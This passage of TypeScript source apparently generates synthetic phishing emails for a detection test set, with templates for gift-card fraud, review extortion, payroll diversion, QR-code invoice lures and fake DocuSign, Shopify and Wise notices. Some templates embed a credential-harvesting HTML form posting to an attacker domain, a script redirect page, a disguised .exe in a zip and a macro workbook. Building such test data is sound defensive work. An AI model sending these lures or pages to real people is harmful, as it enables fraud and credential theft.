        greeting: 'Hello,',
        paragraphs: [
          `Within 48 hours your shop will receive ${s.between(30, 120)} one-star reviews on Google, Trustpilot and Etsy unless you pay ${s.between(200, 800)} USD in Bitcoin.`,
          `Wallet: bc1q${s.token(30)}. After payment nothing will happen and we will remove any existing negative reviews.`,
        ],
        shape: 'text',
      };
    },
  },
  {
    name: 'owner-gift-cards',
    kind: 'gift-card-ceo-fraud',
    make(s) {
      const staff = s.staff();
      const address = s.freemail(OWNER.name, ['gmail.com', 'outlook.com', 'icloud.com']);
      return {
        fromName: OWNER.name,
        from: address,
        auth: auth.freemail(address),
        to: staff.address,
        subject: s.pick(['Quick favour', 'Are you at your desk?', 'Need this done today', 'Hannah']),
        greeting: `${staff.name.split(' ')[0]},`,
        paragraphs: [
          s.pick([
            'I need you to pick up some gift cards for a customer thank-you I promised. I am in a meeting with a buyer and cannot take calls.',
            'I am at the trade show with no signal for calls. Can you get Apple gift cards for the wholesale clients today? I will reimburse you.',
          ]),
          `${s.between(4, 10)} x £${s.pick([50, 100])}. Scratch the backs and send me photos of the codes.`,
        ],
        signoff: s.pick(['Hannah', 'H', 'Thanks, Hannah\nSent from my iPhone']),
        shape: 'text',
      };
    },
  },
  {
    name: 'qr-invoice-pdf',
    kind: 'invoice-qr-code',
    make: async (s): Promise<Letter> => {
      const domain = s.attackerDomain([
        s.pick(['invoice', 'pay', 'billing']),
        s.pick(['portal', 'docs', 'online']),
      ]);
      const link = s.attackerLink(domain, ['i', 'pay']);
      const ref = `${s.pick(['INV', 'FAC', 'BILL'])}-${s.digits(6)}`;
      const qr = await qrPng(link);
      const inPdf = s.chance(0.5);
      return {
        fromName: s.pick(['Accounts Receivable', 'Invoice Notification', 'Billing Department']),
        from: `ar@${domain}`,
        auth: auth.own(domain),
        to: 'accounts@corp.example',
        subject: s.pick([
          `Invoice ${ref} is overdue`,
          `Outstanding invoice ${ref}`,
          'Payment reminder: scan to view invoice',
        ]),
        greeting: hello(s),
        paragraphs: [
          `Invoice ${ref} for ${s.pounds(240, 4800)} is now overdue.`,
          'For security, the invoice can only be opened on your phone. Scan the QR code to view and pay.',
        ],
        parts: inPdf
          ? [
              {
                type: PDF,
                name: `${ref}.pdf`,
                content: onePagePdf(['INVOICE', ref, 'Scan the code to view'], { jpeg: await qrJpeg(link) }),
              },
            ]
          : [{ type: 'image/png', name: 'invoice_qr.png', content: qr }],
        signoff: 'Accounts Receivable',
      };
    },
  },
  {
    name: 'qr-shopify-two-factor',
    kind: 'qr-two-factor-reset',
    make: async (s): Promise<Letter> => {
      const domain = s.attackerDomain(['shopify', s.pick(['2fa', 'auth', 'security'])]);
      const link = s.attackerLink(domain, ['mfa', 'auth']);
      return {
        fromName: s.pick(['Shopify Security', 'Store Security']),
        from: `security@${domain}`,
        auth: auth.own(domain),
        to: s.staff().address,
        subject: s.pick(['Two-step authentication must be renewed', 'Re-enrol your authenticator today']),
        greeting: hello(s),
        paragraphs: [
          s.pick([
            'Your two-step authentication settings expire today. Staff who do not re-enrol will lose access to the store admin.',
            'We are moving all staff accounts to passkeys. Accounts not migrated by Friday will be locked.',
            'A login from a new device was blocked. To keep your access, confirm your authenticator.',
          ]),
          s.pick([
            'Scan the attached QR code with your phone camera to re-enrol.',
            'Use your phone to scan the code in the attachment. It is valid for 24 hours.',
          ]),
        ],
        parts: [{ type: 'image/png', name: 'enrol.png', content: await qrPng(link) }],
        signoff: 'Shopify',
      };
    },
  },
  {
    name: 'shared-inbox-storage-full',
    kind: 'mailbox-quota-lure',
    make(s) {
      const inbox = s.inbox();
      const domain = s.attackerDomain(['mail', s.pick(['admin', 'storage', 'quota'])]);
      return {
        fromName: s.pick(['Mail Administrator', 'corp.example Email Support', 'Postmaster']),
        from: `postmaster@${domain}`,
        auth: auth.own(domain),
        to: inbox,
        subject: s.pick([
          `${inbox}: mailbox storage is full`,
          'Incoming messages are being held',
          'Password expires today',
        ]),
        greeting: `Dear ${inbox},`,
        paragraphs: [
          `Your mailbox has exceeded its storage limit (${s.between(98, 100)}%). ${s.between(8, 40)} incoming messages are on hold and will be deleted.`,
          'Sign in to release the held messages and upgrade your storage at no cost.',
        ],
        button: {
          label: 'Release messages',
          href: s.chance(0.5) ? s.hostedLink() : s.attackerLink(domain, ['owa', 'release']),
        },
        footer: 'corp.example mail services',
      };
    },
  },
  {
    name: 'docusign-wholesale-agreement',
    kind: 'fake-e-signature',
    make(s) {
      const sender = brandSender(s, ['docusign', s.pick(['esign', 'review'])], 'docusign.net', 'dse');
      const partner = s.pick([
        'Harbour & Home',
        'The Kitchen Drawer',
        'Northfield Interiors',
        'Atelier Maison',
      ]);
      return {
        fromName: `${partner} via DocuSign`,
        from: sender.from,
        auth: sender.auth,
        to: s.pick([OWNER.address, STAFF[3].address]),
        subject: `Please review and sign: Wholesale Supply Agreement ${partner}`,
        greeting: hello(s),
        paragraphs: [`${s.person()} sent you a document to review and sign.`, 'Supply_Agreement_2026.pdf'],
        button: {
          label: 'REVIEW DOCUMENT',
          href: s.chance(0.5) ? s.hostedLink() : s.attackerLink(sender.domain, ['Signing', 'envelope']),
        },
        footer:
          'Do not share this email. This message was sent to you by DocuSign Electronic Signature Service.',
        shape: 'html',
      };
    },
  },
  {
    name: 'wholesale-marketplace-order-pending',
    kind: 'wholesale-platform-lure',
    make(s) {
      const brand = s.pick(['Faire', 'Ankorstore']);
      const sender = brandSender(s, [brand.toLowerCase(), 'brands'], `${brand.toLowerCase()}.com`, 'orders');
      return {
        fromName: brand,
        from: sender.from,
        auth: sender.auth,
        to: STAFF[3].address,
        subject: s.pick([
          `You have a new order from a retailer on ${brand}`,
          `Order awaiting confirmation - ${brand}`,
        ]),
        greeting: hello(s),
        paragraphs: [
          `${s.pick(['Boutique Lumière', 'Casa Verde', 'Fenwick Home', 'Kleine Keuken'])} placed an opening order of ${s.euros(300, 1800)}. Confirm within 24 hours or the order will be cancelled.`,
          'Sign in to your brand portal to accept the order.',
        ],
        button: {
          label: 'Accept order',
          href: s.attackerLink(sender.domain, ['brand-portal/login', 'orders']),
        },
      };
    },
  },
  {
    name: 'remittance-html-attachment',
    kind: 'html-attachment-credential-page',
    make(s) {
      const domain = s.attackerDomain([s.pick(['remit', 'payment']), s.pick(['advice', 'notice'])]);
      const page = `<html><body><h2>Microsoft 365</h2><p>Sign in to view your remittance</p><form action="https://${domain}/post.php" method="post"><input name="login" value="accounts@corp.example"><input type="password" name="pwd"><button>Sign in</button></form></body></html>`;
      const company = s.pick(['Beacon Homeware', 'Lyle & Co Retail', 'Greystone Gifts']);
      return {
        fromName: `${company} Payments`,
        from: `payments@${s.attackerDomain([company.split(' ')[0].toLowerCase(), 'retail'])}`,
        auth: { spf: 'softfail', mailfrom: `apache@${domain}`, dkim: 'none', dmarc: 'none' },
        to: 'accounts@corp.example',
        subject: s.pick([
          'Remittance advice',
          `Payment confirmation ${s.digits(7)}`,
          'Your invoice has been paid',
        ]),
        greeting: hello(s),
        paragraphs: [`Please find attached the remittance advice for payment of ${s.pounds(300, 3000)}.`],
        parts: [{ type: 'text/html', name: `Remittance_${s.digits(5)}.html`, content: Buffer.from(page) }],
        shape: 'text',
      };
    },
  },
  {
    name: 'staff-payroll-bank-change',
    kind: 'payroll-diversion',
    make(s) {
      const staff = s.staff();
      const address = s.freemail(staff.name, ['gmail.com', 'outlook.com']);
      return {
        fromName: staff.name,
        from: address,
        auth: auth.freemail(address),
        to: s.pick(['accounts@corp.example', STAFF[6].address, OWNER.address]),
        subject: s.pick(['Change of bank for salary', 'New account for my pay', 'Direct deposit update']),
        greeting: 'Hi,',
        paragraphs: [
          'I have changed banks and would like my salary paid into my new account from this month.',
          `Sort code ${s.digits(2)}-${s.digits(2)}-${s.digits(2)}, account ${s.digits(8)}. Writing from my personal email as I am off today.`,
        ],
        signoff: staff.name.split(' ')[0],
        shape: 'text',
      };
    },
  },
  {
    name: 'brand-registry-trademark',
    kind: 'fake-trademark-claim',
    make(s) {
      const domain = s.attackerDomain([
        s.pick(['brand', 'trademark', 'ip']),
        s.pick(['registry', 'protect', 'office']),
      ]);
      return {
        fromName: s.pick(['Trademark Registration Office', 'Brand Protection Unit', 'IP Registry Services']),
        from: `notice@${domain}`,
        auth: auth.own(domain),
        to: OWNER.address,
        subject: s.pick([
          `Application to register "SALTMARSH" by a third party`,
          'Trademark conflict - response needed',
        ]),
        greeting: hello(s),
        paragraphs: [
          `We received an application from ${s.pick(['Shenzhen Haoyu Trading', 'Coastal Goods LLC', 'Marsh Home Ltd'])} to register the mark "SALTMARSH" for ceramics and online retail.`,
          'As the holder of corp.example you have priority for 7 days. Confirm that you wish to protect your brand.',
        ],
        button: { label: 'Protect my brand', href: s.attackerLink(domain, ['claim', 'priority']) },
      };
    },
  },
  {
    name: 'trustpilot-review-flagged',
    kind: 'review-platform-lure',
    make(s) {
      const sender = brandSender(
        s,
        ['trustpilot', s.pick(['business', 'reviews'])],
        'trustpilot.com',
        'noreply',
      );
      return {
        fromName: 'Trustpilot',
        from: sender.from,
        auth: sender.auth,
        to: s.pick(['info@corp.example', STAFF[5].address]),
        subject: s.pick([
          'Your business profile has been flagged',
          'Unusual review activity on your profile',
        ]),
        greeting: hello(s),
        paragraphs: [
          'We detected reviews on your profile that may breach our guidelines. A consumer warning will be displayed on your page unless you verify your business.',
        ],
        button: {
          label: 'Verify business',
          href: s.attackerLink(sender.domain, ['business/verify', 'login']),
        },
      };
    },
  },
  {
    name: 'influencer-collab-brief',
    kind: 'creator-collaboration-malware',
    make(s) {
      const name = s.person();
      const agency = s.attackerDomain([
        s.pick(['creator', 'influence', 'social']),
        s.pick(['media', 'agency', 'collective']),
      ]);
      const file = s.pick(['Campaign_Brief_2026.zip', 'Collaboration_terms.rar']);
      return {
        fromName: `${name} | ${s.pick(['Creator Partnerships', 'Brand Collaborations'])}`,
        from: `${name.split(' ')[0].toLowerCase()}@${agency}`,
        auth: auth.own(agency),
        to: STAFF[5].address,
        subject: s.pick([
          'Paid collaboration proposal',
          `Partnership with @${s.token(8)} (${s.between(120, 900)}k followers)`,
        ]),
        greeting: 'Hi team,',
        paragraphs: [
          'We represent a lifestyle creator who loves your ceramics and would like to run a paid campaign featuring your mugs.',
          `The budget, deliverables and contract are in the attached archive (password: ${s.digits(4)}).`,
        ],
        parts: [{ type: ZIP, name: file, content: protectedZip('Campaign_Brief.pdf.exe', s.number) }],
        signoff: name,
      };
    },
  },
  {
    name: 'instagram-verified-badge',
    kind: 'social-badge-lure',
    make(s) {
      const domain = s.attackerDomain(['instagram', s.pick(['verify', 'badge', 'meta'])]);
      return {
        fromName: 'Instagram',
        from: `security@${domain}`,
        auth: auth.own(domain),
        to: STAFF[5].address,
        subject: s.pick(['Your account is eligible for the blue badge', 'Verification request approved']),
        greeting: `Hi @saltmarshceramics,`,
        paragraphs: [
          'Your business account meets the requirements for a verified badge. Complete the form within 48 hours.',
        ],
        button: { label: 'Get verified', href: s.attackerLink(domain, ['badge', 'apply']) },
      };
    },
  },
  {
    name: 'shopify-app-reinstall',
    kind: 'app-consent-lure',
    make(s) {
      const domain = s.attackerDomain([s.pick(['shop', 'store']), s.pick(['apps', 'plugins'])]);
      const app = s.pick(['Inventory Sync Pro', 'Review Booster', 'Reconvert Upsell']);
      return {
        fromName: `${app} Support`,
        from: `support@${domain}`,
        auth: auth.own(domain),
        to: s.pick([OWNER.address, STAFF[1].address]),
        subject: `Critical security update for ${app} - reinstall required`,
        greeting: hello(s),
        paragraphs: [
          `A vulnerability was found in ${app}. To keep your store data safe, reinstall the app and approve the updated permissions.`,
        ],
        button: { label: 'Reinstall app', href: s.attackerLink(domain, ['install', 'oauth/authorize']) },
      };
    },
  },
  {
    name: 'voicemail-customer',
    kind: 'voicemail-attachment',
    make(s) {
      const domain = s.attackerDomain(['voice', s.pick(['mail', 'message', 'cloud'])]);
      const page = `<html><body><script>location.href="https://${domain}/play?u=orders"</script><p>Loading voice message...</p></body></html>`;
      return {
        fromName: s.pick(['Voice Message', 'VoiceMail Service', 'Phone System']),
        from: `voicemail@${domain}`,
        auth: auth.own(domain),
        subject: `New voicemail from +44 7${s.digits(9)} (${s.between(0, 1)}:${String(s.between(5, 59)).padStart(2, '0')})`,
        greeting: 'You have a new voice message.',
        paragraphs: [
          `Caller: ${s.pick(['Customer', 'Unknown', 'Wholesale enquiry', 'Royal Mail', 'Bank'])}`,
          s.pick([
            'Open the attachment to listen.',
            'The message is attached as an audio page. Sign in to play it.',
            'Transcript unavailable. Play the recording from the attachment.',
          ]),
        ],
        parts: [{ type: 'text/html', name: `VM_${s.digits(6)}.htm`, content: Buffer.from(page) }],
        shape: 'html',
      };
    },
  },
  {
    name: 'fake-payment-received',
    kind: 'fake-bank-payment-notice',
    make(s) {
      const sender = brandSender(s, ['wise', s.pick(['transfer', 'payments'])], 'wise.com', 'noreply');
      return {
        fromName: 'Wise',
        from: sender.from,
        auth: sender.auth,
        to: 'accounts@corp.example',
        subject: s.pick([`You received ${s.euros(400, 4000)}`, 'Incoming payment on hold']),
        greeting: hello(s),
        paragraphs: [
          `A payment from ${s.pick(['Atelier Maison SARL', 'Kleine Keuken BV', 'Casa Verde SL'])} is waiting for you, but we need you to confirm your account before it can be released.`,
        ],
        button: { label: 'Confirm and receive', href: s.attackerLink(sender.domain, ['receive', 'login']) },
      };
    },
  },
  {
    name: 'macro-price-quote',
    kind: 'macro-spreadsheet',
    make(s) {
      const name = s.person();
      const domain = s.attackerDomain([
        s.pick(['packaging', 'boxes', 'carton']),
        s.pick(['direct', 'supply', 'uk']),
      ]);
      return {
        fromName: name,
        from: `${name.split(' ')[0].toLowerCase()}@${domain}`,
        auth: auth.own(domain),
        to: STAFF[1].address,
        subject: s.pick([
          'Packaging price list 2026',
          'Quotation for mailer boxes',
          'Revised quote - enable editing to view',
        ]),
        greeting: 'Hello,',
        paragraphs: [
          'As discussed, please find our price list for mailer boxes and void fill. Enable content in the file to see the prices for your quantities.',
        ],
        parts: [
          {
            type: 'application/vnd.ms-excel.sheet.macroEnabled.12',
            name: 'Price_List_2026.xlsm',
            content: macroWorkbook(),
          },
        ],
        signoff: name,
      };
    },
  },
];

export const UNSEEN_16_TEMPLATES: readonly Template[] = [...ENGLISH, ...LOCAL_PHISHING];
export const UNSEEN_16_KINDS: readonly string[] = [...new Set(UNSEEN_16_TEMPLATES.map((t) => t.kind))];
export const UNSEEN_16_TEMPLATE_COUNT: number = UNSEEN_16_TEMPLATES.length;

export async function unseenPhishing16(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<{ raw: string; kind: string; template: string }[]> {
  return buildSet(UNSEEN_16_TEMPLATES, perTemplate, seed, seededRandom, 160000);
}
